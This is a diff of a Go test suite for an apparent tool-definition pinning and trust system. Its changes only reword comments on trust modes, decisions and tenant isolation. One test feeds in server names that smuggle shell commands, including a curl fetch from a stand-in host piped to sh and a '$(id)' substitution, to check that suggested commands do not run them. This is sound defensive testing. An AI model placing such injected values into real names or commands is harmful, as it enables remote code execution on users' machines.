@@ -119,8 +119,8 @@ func TestFirstUse(t *testing.T) {
 	}
 }
 
-// An agent can write a workspace's file, and so choose the name of a server. What a person is
-// advised to type runs nothing that is written in that name.
+// An agent can write a workspace's file, and so choose the name of a server. The command that a
+// person is advised to type runs nothing that is written in that name.
 func TestAdviceDoesNotRunNames(t *testing.T) {
 	b := opened(t, "")
 	for _, name := range []string{"a;curl${IFS}evil.example|sh", "a $(id)", "--all"} {
@@ -171,7 +171,8 @@ func TestModes(t *testing.T) {
 		if mode == Ask {
 			judged(t, b, Rules{Mode: Ask}, named("a=1"), "")
 			judged(t, b, Rules{Mode: Ask}, named("a=2", "b=1"), "tool a changed, tool b new")
-			// What a person did not decide on is not trusted when the mode changes either.
+			// A definition on which a person did not decide is not trusted when the mode changes
+			// either.
 			judged(t, b, tofu, named("a=1", "b=1"), "tool b new")
 			continue
 		}
@@ -201,7 +202,7 @@ func TestAToolThatComesLater(t *testing.T) {
 	}
 }
 
-// What is found at a call is compared too: a definition that changed between the list and the
+// A definition that is read at a call is compared too: one that changed between the list and the
 // call is not called.
 func TestAChangeBetweenListAndCall(t *testing.T) {
 	b := opened(t, "")
@@ -329,7 +330,7 @@ func TestDecisions(t *testing.T) {
 	// The same again changes nothing.
 	decide(t, b, server, true, nil, a2)
 	decide(t, b, server, false, nil, b2)
-	// What was refused is refused for that text; what was trusted before it is still trusted.
+	// A refusal is for that text; the text that was trusted before it is still trusted.
 	judged(t, b, tofu, named("a=2", "b=3"), "tool b changed")
 	judged(t, b, tofu, named("a=2", "b=1"), "")
 	// A person may think again.
@@ -818,8 +819,7 @@ func TestLogIsPruned(t *testing.T) {
 	held(t, "an entry that was kept", opened(t, dir), ErrBroken, "does not follow")
 }
 
-// What tenants and workspaces trust, decide and see is their own. The control is a book for
-// each of them.
+// The pins, decisions and questions of tenants and workspaces are their own.
 func TestTenantsAreApart(t *testing.T) {
 	n, r := testenv.Cases(t, 150)
 	places := []Server{{"a", "", "s"}, {"b", "", "s"}, {"a", "w", "s"}, {"a", "", "s2"}, {"a w", "", "s"}}
